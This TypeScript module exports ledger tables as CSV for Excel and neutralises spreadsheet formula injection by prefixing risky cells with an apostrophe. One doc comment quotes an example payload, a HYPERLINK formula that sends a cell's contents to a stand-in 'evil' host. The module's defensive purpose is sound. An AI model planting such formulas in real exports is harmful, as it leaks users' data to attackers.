// CSV for people who open it in Excel: UTF-8 with a byte-order mark (or Excel guesses the ANSI code
// page and Chinese turns to mojibake), CRLF line ends and RFC 4180 quoting.
import { writeFile } from 'node:fs/promises';
import type { SheetTable, TableCell } from '../core/ledger/ledger-table.ts';
import { formatWan } from '../core/rules/money.ts';

/** The UTF-8 byte-order mark Excel looks for. */
export const BOM = '\uFEFF';

/** A negative amount or percentage as the writers print them ("-0.5", "-12", "-3.0%", "-1,234.5"). */
const NEGATIVE_NUMBER = /^-(?:(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?|\.\d+)%?$/;
/** Texts Excel, WPS or LibreOffice would run as a formula (after any escape quotes already there). */
const FORMULA_START = /^'*[=+\-@\t\r]/;

/**
 * Formula injection (CSV injection): a cell starting with = + - @, a tab or a CR is a formula to
 * Excel, so `=HYPERLINK("http://evil"&B5,"详情")` in a report would run when the ledger is opened.
 * Such a cell gets a leading ' (OWASP), which makes it text; negative numbers ("-0.5", "-3%") stay
 * numbers. A text that already starts with quotes before such a character gets one more, so that
 * {@link unescapeFormula} (the import) gives every text back exactly.
 */
export function neutralizeFormula(value: string): string {
  if (!FORMULA_START.test(value)) return value;
  if (NEGATIVE_NUMBER.test(value)) return value;
  return `'${value}`;
}

/** The inverse of {@link neutralizeFormula}: one leading ' before quotes and = + - @ tab CR is taken off. */
export function unescapeFormula(value: string): string {
  return value[0] === "'" && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}

/**
 * A CSV field: formulas neutralised ({@link neutralizeFormula}), then quoted when it holds a comma,
 * a quote, a line break or leading/trailing space (RFC 4180). Every CSV the project writes goes
 * through here.
 */
export function csvField(value: string): string {
  const safe = neutralizeFormula(value);
  return /[",\r\n]|^\s|\s$/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** The CSV text of rows: BOM first, fields quoted as needed, CRLF after every record. */
export function toCsv(rows: readonly (readonly string[])[]): string {
  return BOM + rows.map((row) => row.map(csvField).join(',') + '\r\n').join('');
}

/** A cell as CSV text: amounts as exact 万元 decimals, percentages with their sign. */
export function csvCell(cell: TableCell): string {
  switch (cell.kind) {
    case 'text':
      return cell.text;
    case 'money':
      return cell.fen == null ? '' : formatWan(cell.fen);
    case 'percent':
      return cell.value == null ? '' : `${(cell.value * 100).toFixed(cell.digits)}%`;
    case 'integer':
      return cell.value == null ? '' : String(cell.value);
    case 'image':
      return ''; // no pictures in CSV
  }
}

/** A table as CSV rows: the header, then every row (subtotals and the total included), no title. */
export function tableRows(table: SheetTable): string[][] {
  return [table.columns.map((c) => c.header), ...table.rows.map((row) => row.cells.map(csvCell))];
}

/** Writes one table (the week sheet) as a CSV file. */
export async function writeTableCsv(table: SheetTable, path: string): Promise<void> {
  await writeFile(path, toCsv(tableRows(table)), 'utf8');
}
